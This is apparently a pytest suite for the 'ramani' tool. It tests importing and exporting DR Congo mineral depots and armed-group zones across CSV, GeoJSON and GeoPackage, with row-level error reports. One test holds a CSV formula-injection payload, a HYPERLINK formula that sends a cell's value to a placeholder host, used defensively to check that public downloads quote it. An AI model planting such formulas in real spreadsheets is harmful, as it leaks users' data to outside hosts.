"""Supply-chain layers imported and exported through the `ramani` command as a user drives it: every layer
round-trips through CSV (WKT), GeoJSON and GeoPackage column by column; bad files import nothing and say
row, column, value and reason."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
import shapely
from click.testing import CliRunner

from ramani.cli import main
from ramani.supplychain.formats import LAYERS, POINT_COLUMNS, WKT, ZONE_COLUMNS
from ramani.supplychain.models import InterferenceZone, SiteLink, TradePoint
from tests.roadblocks.test_import import BOUNDARIES

pytestmark = pytest.mark.django_db

POINTS = [
    {
        "key": "goma-1",
        "name": "Dépôt « La Colline », Goma",
        "minerals": "Cassitérite, Coltan",
        "locality": "Goma",
        "operator": "Comptoir X, coopérative Y",
        "country": "RD Congo",
        "date": "2023-04",
        "source": "Enquête 2023",
        "project": "Traçabilité",
        "notes": 'Ouvert le lundi; "grand" dépôt',
        "synthetic": "0",
        WKT: "POINT (29.2213 -1.6792)",
    },
    {
        "key": "",  # a digest of the row is its key
        "name": "Mubi",
        "minerals": "",
        "locality": "",
        "operator": "",
        "country": "",
        "date": "",
        "source": "",
        "project": "",
        "notes": "",
        "synthetic": "1",
        WKT: "POINT (28.18 -1.1)",
    },
]
ZONES = [
    {
        "key": "z1",
        "name": "Zone de Masisi",
        "armed_group": "Groupe armé A",
        "group_type": "Groupe armé local",
        "period_start": "2021-03",
        "period_end": "2023",
        "source": "Rapport 2023",
        "project": "Conflits",
        "notes": "",
        "synthetic": "0",
        WKT: "POLYGON ((28.7 -1.5, 28.9 -1.5, 28.9 -1.3, 28.7 -1.3, 28.7 -1.5))",
    },
    {
        "key": "",
        "name": "",
        "armed_group": "Groupe armé B",
        "group_type": "",
        "period_start": "2022",
        "period_end": "",
        "source": "Rapport 2024",
        "project": "",
        "notes": "deux parties",
        "synthetic": "0",
        WKT: "MULTIPOLYGON (((28.0 -1.2, 28.2 -1.2, 28.2 -1.0, 28.0 -1.2)), "
        "((28.3 -1.2, 28.4 -1.2, 28.4 -1.1, 28.3 -1.2)))",
    },
]


def write_csv(path: Path, rows: list[dict], columns: list[str]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=columns)
        w.writeheader()
        w.writerows(rows)
    return path


def run(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def read_back(path: Path) -> list[dict]:
    """Rows of an exported file as {column: text} with the geometry as a shapely geometry under `wkt`."""
    from ramani.supplychain.read import read_rows

    layer = LAYERS["depots"] if "zone" not in path.name else LAYERS["interference-zones"]
    out = []
    for _row, record, geometry in read_rows(layer, path, []):
        out.append({**record, WKT: geometry})
    return out


def same_rows(original: list[dict], exported: list[dict], columns: list[str]) -> None:
    by_key = {r["key"]: r for r in exported}
    assert len(by_key) == len(original)
    for r in original:
        key = r["key"] or next(
            k for k, e in by_key.items() if e["name"] == r["name"] and e.get("armed_group") == r.get("armed_group")
        )
        e = by_key[key]
        for column in columns:
            if column == "key":
                continue
            if column == "group_type" and not r[column]:
                assert e[column] == "Non identifié"  # the default, written as its French label
                continue
            assert e[column] == r[column], (key, column, e[column], r[column])
        assert shapely.equals(shapely.from_wkt(r[WKT]), e[WKT]), key


@pytest.mark.parametrize("suffix", [".csv", ".geojson", ".gpkg"])
@pytest.mark.parametrize("layer", ["depots", "points-of-sale", "destinations", "interference-zones"])
def test_each_layer_round_trips_column_by_column(tmp_path, layer, suffix):
    zones = layer == "interference-zones"
    rows, columns = (ZONES, ZONE_COLUMNS) if zones else (POINTS, POINT_COLUMNS)
    source = write_csv(tmp_path / f"{layer}.csv", rows, [*columns, WKT])
    answer = run("import", layer, str(source))
    assert answer.exit_code == 0, answer.output
    assert "2 rows — 2 created" in answer.output
    model = InterferenceZone if zones else TradePoint
    assert model.objects.count() == 2
    exported = tmp_path / f"{'zones' if zones else 'points'}-out{suffix}"
    answer = run("export", layer, str(exported))
    assert answer.exit_code == 0 and "wrote 2" in answer.output, answer.output
    first = read_back(exported)
    same_rows(rows, first, columns)
    # and the export imports back: nothing changes
    answer = run("import", layer, str(exported))
    assert answer.exit_code == 0, answer.output
    assert "0 created, 0 updated, 2 unchanged" in answer.output
    again = tmp_path / f"{'zones' if zones else 'points'}-again{suffix}"
    run("export", layer, str(again))
    assert [{k: v for k, v in r.items() if k != WKT} for r in read_back(again)] == [
        {k: v for k, v in r.items() if k != WKT} for r in first
    ]


def test_kinds_are_kept_apart_and_admin_units_assigned(tmp_path):
    from ramani.geo.boundaries import import_boundaries

    import_boundaries(BOUNDARIES)
    source = write_csv(tmp_path / "p.csv", POINTS, [*POINT_COLUMNS, WKT])
    assert run("import", "depots", str(source)).exit_code == 0
    assert run("import", "destinations", str(source)).exit_code == 0
    assert TradePoint.objects.filter(kind="depot").count() == 2
    assert TradePoint.objects.filter(kind="destination").count() == 2
    goma = TradePoint.objects.get(kind="depot", key="goma-1")
    assert goma.province_pcode == "CD61" and goma.adm2_pcode.startswith("CD61")
    assert goma.minerals == ["Cassitérite", "Coltan"] and goma.date.isoformat() == "2023-04-01"
    assert goma.history.count() == 1


def test_a_reimport_with_a_change_updates_and_keeps_history(tmp_path):
    source = write_csv(tmp_path / "z.csv", ZONES, [*ZONE_COLUMNS, WKT])
    run("import", "interference-zones", str(source))
    changed = [dict(ZONES[0], period_end="2024"), ZONES[1]]
    source = write_csv(tmp_path / "z2.csv", changed, [*ZONE_COLUMNS, WKT])
    answer = run("import", "interference-zones", str(source))
    assert "0 created, 1 updated, 1 unchanged" in answer.output
    zone = InterferenceZone.objects.get(key="z1")
    assert zone.period_end.year == 2024 and zone.history.count() == 2
    assert 400 < zone.area_km2 < 520  # 0.2° × 0.2° near the equator, geodesic


def test_a_bad_file_imports_nothing_and_says_where(tmp_path):
    bad = [
        dict(ZONES[0], key="a", group_type="Bandits"),
        dict(ZONES[0], key="b", period_start="", wkt="POLYGON ((28 -1, 29 -1, 28 -2, 29 -2, 28 -1))"),
        dict(ZONES[0], key="c", armed_group="", wkt="POINT (28 -1)"),
        dict(ZONES[0], key="d", period_start="2023", period_end="2021", wkt="POLYGON ((28 -1, 29"),
        dict(ZONES[1], key="ok"),
        dict(ZONES[1], key="ok"),
    ]
    source = write_csv(tmp_path / "bad.csv", bad, [*ZONE_COLUMNS, WKT])
    report = tmp_path / "report.csv"
    answer = run("import", "interference-zones", str(source), "--report", str(report))
    assert answer.exit_code == 1 and "Nothing was imported" in answer.output
    assert InterferenceZone.objects.count() == 0
    with report.open(encoding="utf-8") as f:
        problems = {(r["row"], r["column"]): r for r in csv.DictReader(f)}
    assert problems[("2", "group_type")]["value"] == "Bandits"
    assert "Self-intersection" in problems[("3", "wkt")]["reason"]
    assert ("3", "period_start") in problems
    assert ("4", "armed_group") in problems and "not a Point" in problems[("4", "wkt")]["reason"]
    assert "not readable WKT" in problems[("5", "wkt")]["reason"]
    assert "ends before it starts" in problems[("5", "period_end")]["reason"]
    assert "row 6" in problems[("7", "key")]["reason"] and ("6", "key") not in problems


def test_points_need_points_and_csv_needs_wkt(tmp_path):
    source = write_csv(tmp_path / "p.csv", [dict(POINTS[0], wkt=ZONES[0][WKT], date="soon")], [*POINT_COLUMNS, WKT])
    report = tmp_path / "r.csv"
    answer = run("import", "depots", str(source), "--report", str(report))
    assert answer.exit_code == 1
    with report.open(encoding="utf-8") as f:
        problems = {r["column"]: r["reason"] for r in csv.DictReader(f)}
    assert problems["wkt"] == "a depots layer holds points, not a Polygon"
    assert problems["date"].startswith("not a date")
    no_wkt = write_csv(
        tmp_path / "n.csv", [{"name": "x", "latitude": "1", "longitude": "2"}], ["name", "latitude", "longitude"]
    )
    answer = run("import", "depots", str(no_wkt))
    assert answer.exit_code == 1 and "wkt" in answer.output
    other = tmp_path / "p.kml"
    other.write_text("<kml/>")
    answer = run("import", "depots", str(other))
    assert answer.exit_code == 1 and ".gpkg" in answer.output
    assert TradePoint.objects.count() == 0 and SiteLink.objects.count() == 0


def test_gpkg_in_another_crs_is_reprojected(tmp_path):
    import numpy as np
    from pyogrio import raw
    from pyproj import Transformer

    x, y = Transformer.from_crs("EPSG:4326", "EPSG:32735", always_xy=True).transform(29.2213, -1.6792)
    path = tmp_path / "utm.gpkg"
    raw.write(
        str(path),
        geometry=np.array([shapely.to_wkb(shapely.Point(x, y))], dtype=object),
        field_data=[np.array(["Goma"], dtype=object), np.array(["Or"], dtype=object)],
        fields=["name", "minerals"],
        crs="EPSG:32735",
        driver="GPKG",
        geometry_type="Point",
    )
    assert run("import", "points-of-sale", str(path)).exit_code == 0
    point = TradePoint.objects.get()
    assert (
        point.kind == "point_of_sale" and abs(point.longitude - 29.2213) < 1e-6 and abs(point.latitude + 1.6792) < 1e-6
    )


def test_geojson_feature_ids_are_keys(tmp_path):
    path = tmp_path / "d.geojson"
    features = [
        {
            "type": "Feature",
            "id": "dest-1",
            "geometry": {"type": "Point", "coordinates": [32.58, 0.35]},
            "properties": {"name": "Kampala", "country": "Ouganda", "synthetic": False},
        },
    ]
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    assert run("import", "destinations", str(path)).exit_code == 0
    assert TradePoint.objects.get().key == "dest-1"


def test_the_public_csv_download_never_carries_a_formula(tmp_path, client):
    """A name that is a spreadsheet formula (as an import may bring) is quoted in /supplychain/<layer>.csv; the
    curator's own export keeps it as it is, so it reads back without loss."""
    formula = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    source = write_csv(tmp_path / "p.csv", [dict(POINTS[0], name=formula, notes="@SUM(1)")], [*POINT_COLUMNS, WKT])
    assert run("import", "depots", str(source)).exit_code == 0
    rows = list(csv.DictReader(client.get("/supplychain/depots.csv").content.decode().splitlines()))
    assert [(r["name"], r["notes"]) for r in rows] == [("'" + formula, "'@SUM(1)")]
    assert run("export", "depots", str(tmp_path / "out.csv")).exit_code == 0
    assert [r["name"] for r in read_back(tmp_path / "out.csv")] == [formula]


def test_a_nul_character_is_a_problem_not_a_crash(tmp_path):
    source = write_csv(tmp_path / "nul.csv", [dict(ZONES[0], armed_group="M23\x00")], [*ZONE_COLUMNS, WKT])
    report = tmp_path / "report.csv"
    answer = run("import", "interference-zones", str(source), "--report", str(report))
    assert answer.exit_code == 1 and "Nothing was imported" in answer.output
    with report.open(encoding="utf-8") as f:
        assert [(r["row"], r["column"], r["value"]) for r in csv.DictReader(f)] == [("2", "armed_group", "M23\\x00")]
    assert InterferenceZone.objects.count() == 0
